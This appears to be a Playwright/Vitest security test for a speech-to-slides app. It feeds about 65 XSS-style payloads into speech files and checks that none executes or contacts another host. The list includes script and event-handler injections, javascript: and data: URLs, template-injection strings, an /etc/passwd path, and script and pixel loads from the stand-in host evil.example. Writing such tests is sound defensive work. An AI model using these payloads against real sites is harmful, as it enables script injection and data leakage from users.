import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Browser, chromium } from 'playwright';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { findChromium, launchOptions } from '../../src/cli/find-chromium.ts';
import { type RunningApp, startApp } from './running-app.ts';

/** Text that would run, or ask another host, where text is taken for markup. `hacked()` is what each would call. */
const PAYLOADS: readonly string[] = [
  '<script>hacked()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=hacked()>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=hacked()>',
  '<svg><script>hacked()</script></svg>',
  '<svg><animate onbegin=hacked() attributeName=x dur=1s>',
  '<body onload=hacked()>',
  '<iframe src="javascript:parent.hacked()"></iframe>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<object data="javascript:hacked()"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/b.png)}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input autofocus onfocus=hacked()></form>',
  '<video src=x onerror=hacked()></video>',
  '<audio src=x onerror=hacked()></audio>',
  '<details open ontoggle=hacked()>x</details>',
  '<marquee onstart=hacked()>x</marquee>',
  '<a href="javascript:hacked()">点</a>',
  '<math><mtext><img src=x onerror=hacked()></mtext></math>',
  '<template><img src=x onerror=hacked()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=hacked()>"></textarea>',
  '"><script>hacked()</script>',
  "'><img src=x onerror=hacked()>",
  '--><script>hacked()</script><!--',
  '<!--<img src="--><img src=x onerror=hacked()>-->',
  ']]><script>hacked()</script>',
  '</title><script>hacked()</script>',
  '</style><script>hacked()</script>',
  '</textarea><script>hacked()</script>',
  '{{constructor.constructor("hacked()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an author may paste it
  '${hacked()}',
  '`;hacked();`',
  '%3Cscript%3Ehacked()%3C/script%3E',
  '&lt;img src=x onerror=hacked()&gt;',
  '&#60;script&#62;hacked()&#60;/script&#62;',
  '\u003cscript\u003ehacked()\u003c/script\u003e',
  '＜script＞hacked()＜/script＞',
  '[链接](javascript:hacked())',
  '[链接](JaVaScRiPt:hacked())',
  '[链接](java\tscript:hacked())',
  '[链接](data:text/html,<script>hacked()</script>)',
  '[链接](vbscript:hacked())',
  '<javascript:hacked()>',
  '![图](javascript:hacked())',
  '![图](https://evil.example/pixel.png)',
  '![图](//evil.example/pixel.png)',
  '![图](http://evil.example/pixel.png "标题")',
  '![图](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hacked()"/>)',
  '![图](data:text/html,<script>hacked()</script>)',
  '![图](file:///etc/passwd)',
  '![图](../../../../etc/passwd.png)',
  '![x" onerror="hacked()](x.png)',
  '[^1]: <img src=x onerror=hacked()>',
  '| <img src=x onerror=hacked()> | <script>hacked()</script> |\n|---|---|\n| <svg onload=hacked()> | b |',
  '> <img src=x onerror=hacked()>',
  '# <img src=x onerror=hacked()>',
  '一、<img src=x onerror=hacked()>',
  '==<img src=x onerror=hacked()>==',
  '**<svg onload=hacked()>重点内容就在这里**',
  '（掌声<img src=x onerror=hacked()>）',
];

let app: RunningApp;
let browser: Browser;
beforeAll(async () => {
  app = await startApp();
  browser = await chromium.launch(launchOptions(await findChromium()));
});
afterAll(async () => {
  await browser?.close();
  await app?.close();
});

it(`${PAYLOADS.length} hostile texts: none runs, none asks another host, each is shown as the text it is`, async () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
  const front = PAYLOADS.slice(0, 9).map(
    (text, index) =>
      `${['title', 'subtitle', 'speaker', 'role', 'date', 'occasion', 'place', 'source', 'theme'][index]}: ${JSON.stringify(text)}`,
  );
  const body = PAYLOADS.map((text, index) => `${text}\n\n第${index}段正文必须坚持不懈地讲下去。\n`).join(
    '\n',
  );
  await writeFile(join(app.speeches, 'x.md'), `---\n${front.join('\n')}\n---\n\n同志们：\n\n${body}`);
  await writeFile(join(app.speeches, 'x.txt'), `讲话\n\n同志们：\n\n${body}`);

  const page = await browser.newPage();
  const strangers: string[] = [];
  const faults: string[] = [];
  await page.exposeFunction('hackedFromAnyFrame', () => strangers.push('ran'));
  await page.addInitScript(() => {
    (window as unknown as { hacked: () => void }).hacked = () =>
      (window as unknown as { hackedFromAnyFrame: () => void }).hackedFromAnyFrame();
  });
  page.on('dialog', (dialog) => {
    strangers.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(app.url) && !/^(data|blob|about):/.test(request.url()))
      strangers.push(request.url());
  });
  page.on('pageerror', (error) => faults.push(error.message));
  for (const name of ['x.md', 'x.txt']) {
    await page.goto(`${app.url}#file=${name}`);
    await page.reload();
    const deck = page.frameLocator('#deck-frame');
    const handout = page.frameLocator('#handout-frame');
    await expect.poll(() => deck.locator('.slides').textContent()).toContain('段正文必须坚持不懈地讲下去');
    await expect.poll(() => handout.locator('.pagedjs_page').count()).toBeGreaterThan(3);
    await expect.poll(() => page.locator('[data-testid="badge-proof"]').textContent()).toMatch(/^\D*0\D*$/);
    // As text, not as markup: the outline of the handout still reads it.
    await expect.poll(() => handout.locator('body').textContent()).toContain('onerror=hacked()');
    expect(
      await handout.locator('body script:not([src]), body [onerror], body [onload], body iframe').count(),
    ).toBe(0);
    expect(
      await deck.locator('.slides script, .slides [onerror], .slides [onload], .slides iframe').count(),
    ).toBe(0);
  }
  expect(strangers).toEqual([]);
  expect(faults).toEqual([]);
  await page.close();
});
